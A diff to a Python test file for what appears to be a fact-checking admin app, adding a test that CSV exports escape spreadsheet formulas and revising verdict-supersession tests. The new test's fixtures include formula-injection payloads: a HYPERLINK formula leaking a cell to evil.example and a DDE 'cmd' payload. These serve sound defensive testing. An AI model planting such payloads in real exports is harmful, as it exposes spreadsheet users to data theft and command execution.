@@ -293,6 +293,20 @@ def test_exporting_streams_the_selection_as_csv(reviewer_client):
     assert sorted(int(row[0]) for row in rows[1:]) == sorted(c.pk for c in claims)
 
 
+def test_the_csv_export_guards_every_text_cell_against_spreadsheet_formulas(reviewer_client):
+    article = ArticleFactory(
+        title='=HYPERLINK("http://evil.example/?"&A1,"Click")', source="+cmd|' /C calc'!A0"
+    )
+    claim = ClaimFactory(article=article, text="@SUM(1+1)", sentence="-2+3", speaker="=1+1")
+    response = act(reviewer_client, "export_csv", [claim])
+    header, row = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    cells = dict(zip(header, row, strict=True))
+    for column in ("article__title", "article__source", "text", "sentence", "speaker"):
+        assert cells[column].startswith("'"), column
+    assert cells["article__title"] == "'" + article.title
+    assert cells["id"] == str(claim.pk)
+
+
 def test_a_selection_too_large_for_one_action_is_refused(editor_client, monkeypatch):
     monkeypatch.setattr("claims.admin.bulk.MAX_BULK_CLAIMS", 2)
     ClaimFactory.create_batch(3)
@@ -483,16 +497,21 @@ def test_editors_publish_verdicts_and_reviewers_cannot(editor_client, editor):
 
 
 def test_a_superseded_verdict_is_not_published(editor_client):
-    old = VerdictFactory(published_at=None, is_current=False)
+    newer = VerdictFactory()
+    old = VerdictFactory(
+        claim=newer.claim, published_at=None, is_current=False, superseded_by=newer
+    )
     response = act(editor_client, "publish", [old], url=VERDICTS)
-    assert "1 superseded verdict(s) left unpublished" in said(response)
+    assert "1 verdict(s) left unpublished: superseded, or your own" in said(response)
     old.refresh_from_db()
     assert old.published_at is None
 
 
 def test_a_verdict_page_shows_the_claims_history(editor_client):
-    first = VerdictFactory(is_current=False, rating="false")
-    current = VerdictFactory(claim=first.claim, rating="true")
+    current = VerdictFactory(rating="true")
+    first = VerdictFactory(
+        claim=current.claim, is_current=False, superseded_by=current, rating="false"
+    )
     services.audit_record(action="verdict", claim=first.claim, message="Rated True (was False)")
     page = editor_client.get(f"{VERDICTS}{current.pk}/change/").content.decode()
     assert "superseded" in page and "current" in page
